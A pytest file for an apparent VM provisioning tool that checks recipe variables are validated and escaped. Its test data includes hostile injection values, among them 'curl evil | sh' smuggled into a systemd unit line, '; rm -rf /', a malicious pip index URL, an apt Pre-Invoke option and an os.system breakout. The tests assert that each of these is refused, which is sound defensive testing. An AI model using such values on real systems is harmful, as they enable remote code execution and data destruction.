"""Recipe variables are data, never code: every recipe refuses a value that would leave its folder (`../../etc`),
add a line to a unit or config file, or break out of shell text, with one line naming the variable and a fix,
before any host is touched; and the values that pass land in files escaped for the file's language."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from recipehost import DEBIAN_12, FreshHost

from vmlab.engine import varcheck
from vmlab.engine.loader import load_recipe
from vmlab.engine.runner import apply, prepare
from vmlab.engine.templates import render
from vmlab.errors import BadInput

RECIPES = Path(__file__).resolve().parents[2] / "recipes"
UNIT_INJECTION = "data\nExecStartPre=/bin/sh -c 'curl evil | sh'"

BAD = [
    ("jupyterlab.py", {"data_dir": "../../etc"}, "data_dir '../../etc' is not a folder name"),
    ("jupyterlab.py", {"data_dir": UNIT_INJECTION}, 'data_dir "data\\nExecStartPre='),
    ("jupyterlab.py", {"data_dir": "my data"}, "data_dir 'my data' is not a folder name"),
    ("jupyterlab.py", {"user": "ubuntu\nUser=root"}, "user 'ubuntu\\nUser=root' is not a user name"),
    ("jupyterlab.py", {"conda_prefix": "/opt/../etc"}, "conda_prefix '/opt/../etc' is not an absolute path"),
    ("jupyterlab.py", {"jupyter_venv": "/opt/lab; rm -rf /"}, "jupyter_venv '/opt/lab; rm -rf /' is not"),
    ("jupyterlab.py", {"jupyter_venv": "/opt/%h"}, "jupyter_venv '/opt/%h' is not"),  # a systemd specifier
    ("jupyterlab.py", {"env_file": "relative.env"}, "env_file 'relative.env' is not an absolute path"),
    ("jupyterlab.py", {"tensorboard_logdir": "../../root"}, "tensorboard_logdir '../../root' is not a relative"),
    ("jupyterlab.py", {"jupyterlab_spec": "--index-url=http://evil"}, "is not a pip requirement"),
    ("jupyterlab.py", {"jupyter_port": True}, "jupyter_port True is not a port number"),
    ("jupyterhub.py", {"data_dir": "../../etc"}, "data_dir '../../etc' is not a folder name"),
    ("jupyterhub.py", {"hub_venv": '/opt/hub"]; import os; os.system("id'}, "hub_venv '/opt/hub\"]; import os"),
    ("jupyterhub.py", {"hub_cull_idle": "3600\nc.Authenticator.allow_all = True"}, "hub_cull_idle '3600\\nc.Auth"),
    ("jupyterhub.py", {"hub_port": 65535}, "hub_port 65535 leaves no port for the proxy's API"),
    ("jupyterhub.py", {"jupyterhub_spec": "jupyterhub\n--extra-index-url x"}, "is not a pip requirement"),
    ("jupyterhub.py", {"hub_admins": [["ana"]]}, "hub_admins [['ana']] must list some of hub_users"),
    ("conda.py", {"conda_prefix": "/opt/conda && curl evil | sh"}, "conda_prefix '/opt/conda && curl evil | sh'"),
    ("conda.py", {"conda_channel": "conda-forge\n  - defaults"}, "conda_channel 'conda-forge\\n  - defaults' is not"),
    ("conda.py", {"miniforge_version": "1.0/../../x"}, "miniforge_version '1.0/../../x' is not a version"),
    ("conda.py", {"miniforge_mirror": "http://user:pass@mirror/x"}, "miniforge_mirror 'http://user:pass@mirror/x'"),
    ("conda.py", {"miniforge_sha256": "abc"}, "miniforge_sha256 'abc' is not a sha256"),
    ("agent.py", {"data_dir": UNIT_INJECTION}, 'data_dir "data\\nExecStartPre='),
    ("agent.py", {"user": "root\nExecStart=/bin/sh"}, "user 'root\\nExecStart=/bin/sh' is not a user name"),
    ("base.py", {"data_dir": "/etc"}, "data_dir '/etc' is not a folder name"),
    ("cuda.py", {"cuda_driver": "-oAPT::Update::Pre-Invoke::=id"}, "cuda_driver '-oAPT::Update::Pre-Invoke::=id'"),
    ("cuda.py", {"cuda_repo_url": "https://x/ y"}, "cuda_repo_url 'https://x/ y' is not an http(s) URL"),
    ("example.py", {"greeting": "hi\nhost = evil"}, "greeting 'hi\\nhost = evil' is not one line of text"),
    ("lab.py", {"data_dir": "../../etc"}, "data_dir '../../etc' is not a folder name"),
]


@pytest.mark.parametrize("name, variables, message", BAD, ids=[f"{b[0]}:{next(iter(b[1]))}" for b in BAD])
def test_bad_values_are_refused_before_any_host(name: str, variables: dict[str, Any], message: str) -> None:
    recipe = load_recipe(RECIPES / name)
    env = {**recipe.vars, "user": "admin", **variables}
    with pytest.raises(BadInput) as err:
        prepare(recipe, env)
    text = str(err.value)
    assert message in text and "\n" not in text, text
    assert err.value.hint and "-e " in err.value.hint
    # the runner refuses it the same way before it reads a single fact (FreshHost would fail on any command)
    with pytest.raises(BadInput):
        apply(recipe, FreshHost(DEBIAN_12), variables=env, check=True)


@pytest.mark.parametrize("name", ["agent.py", "base.py", "conda.py", "cuda.py", "example.py", "jupyterhub.py",
                                  "jupyterlab.py", "lab.py"])
def test_defaults_and_plain_values_pass(name: str) -> None:
    recipe = load_recipe(RECIPES / name)
    prepare(recipe, {**recipe.vars, "user": "ec2-user", "inventory_hostname": "h"})


@pytest.mark.parametrize("check, value", [
    (varcheck.abs_path, "/opt/conda-24.1+cu12/x_y"), (varcheck.folder_name, "data.v2"),
    (varcheck.user_name, "_svc-1"), (varcheck.url, "https://mirror.example.org:8443/conda/forge_1.0~x"),
    (varcheck.relative_path, "runs/tb"), (varcheck.version, "24.11.3-0"),
])
def test_plain_values_are_accepted(check: Any, value: str) -> None:
    assert check({"x": value}, "x") == value


@pytest.mark.parametrize("check, value", [
    (varcheck.abs_path, "/"), (varcheck.abs_path, "/opt//x"), (varcheck.abs_path, "/opt/x/"),
    (varcheck.abs_path, "/opt/.hidden"), (varcheck.folder_name, "."), (varcheck.folder_name, ".."),
    (varcheck.folder_name, "-rf"), (varcheck.user_name, "Ana"), (varcheck.user_name, "a" * 33),
    (varcheck.url, "file:///etc/passwd"), (varcheck.url, "https://x/a'b"), (varcheck.relative_path, "a/../b"),
    (varcheck.abs_path, 5), (varcheck.abs_path, "/opt/caf\udce9"),  # a non-UTF-8 byte, as the surrogate it decodes to
])
def test_anything_else_is_refused(check: Any, value: Any) -> None:
    with pytest.raises(BadInput):
        check({"x": value}, "x")


def test_values_land_escaped_for_the_files_language() -> None:
    """Defence in depth: even a value no check would pass stays one JSON/Python string or one shell word."""
    tricky = 'a"b\\c\n\'$(id)'
    assert json.loads(render("{{ v | tojson }}", {"v": tricky})) == tricky
    assert eval(render("{{ v | tojson }}", {"v": tricky})) == tricky  # a Python string literal too
    assert render("echo {{ v | quote }}", {"v": tricky}) == "echo 'a\"b\\c\n'\"'\"'$(id)'"
